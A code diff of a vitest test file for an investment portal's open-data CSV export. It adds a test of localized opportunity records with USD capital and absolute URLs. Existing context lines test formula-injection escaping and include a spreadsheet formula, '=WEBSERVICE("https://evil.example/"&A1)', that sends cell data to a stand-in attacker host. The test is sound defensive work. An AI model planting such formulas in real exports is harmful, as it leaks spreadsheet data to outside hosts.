@@ -1,5 +1,8 @@
 import { describe, expect, it } from 'vitest';
-import { csvCell, csvColumns, opportunityRecord, toCsv } from './openData';
+import { languageFile } from '../../tests/support/collectionFixtures';
+import type { Locale } from '../i18n/locales';
+import { groupEntries, viewOf, type LocalizedEntry } from './localizedEntries';
+import { csvCell, csvColumns, opportunityRecord, opportunityRecordsFrom, toCsv } from './openData';
 
 describe('csvCell()', () => {
   it.each([
@@ -50,5 +53,48 @@ describe('toCsv()', () => {
     expect(cells.description).toBe("'@cmd a description that starts with an at sign");
     expect(cells.incentives).toBe("'-50% land rent");
     expect(record.title).toBe('=WEBSERVICE("https://evil.example/"&A1)');
+  });
+});
+
+describe('opportunityRecordsFrom()', () => {
+  const source = [{ title: 'A public source', url: 'https://example.org/source' }];
+  const entries = groupEntries(
+    'opportunities',
+    [
+      languageFile('opportunities', 'tea-factory/vi', {
+        title: 'Nhà máy chè',
+        description: 'Dự án nhà máy chế biến chè Shan tuyết.',
+        sector: 'agro-processing',
+        place: 'van-chan',
+        form: 'direct',
+        status: 'calling',
+        lastVerified: new Date('2026-11-26'),
+        capitalVnd: 250_000_000_000,
+        exchangeRate: { vndPerUsd: 25_000, date: new Date('2026-01-02') },
+        sources: source,
+      }),
+      languageFile('opportunities', 'tea-factory/en', { title: 'Tea factory', description: 'A factory processing Shan tuyết tea.', incentives: ['Land rent exemption'] }),
+    ],
+    { now: new Date('2026-12-07'), showUnpublished: false },
+  );
+  const names = {
+    sectors: [{ id: 'agro-processing', data: { name: { vi: 'Chế biến nông sản', en: 'Agro-processing', fr: 'Agro-industrie' } } }],
+    places: [{ id: 'van-chan', data: { name: { vi: 'huyện Văn Chấn', en: 'Văn Chấn district' } } }],
+  };
+  const view = (entry: LocalizedEntry<'opportunities'>, locale: Locale) => viewOf(entry, locale, () => undefined);
+
+  it('writes the record in the reader’s language where it can, with absolute addresses and the capital in USD', () => {
+    const [record] = opportunityRecordsFrom(entries, names, 'fr', new URL('https://portal.example.gov.vn'), view);
+    expect(record).toMatchObject({
+      id: 'tea-factory',
+      url: 'https://portal.example.gov.vn/fr/invest/opportunities/tea-factory/',
+      language: 'en',
+      title: 'Tea factory',
+      sectorName: 'Agro-industrie',
+      placeName: 'Văn Chấn district',
+      capitalUsd: 10_000_000,
+      incentives: ['Land rent exemption'],
+      sources: ['https://example.org/source'],
+    });
   });
 });
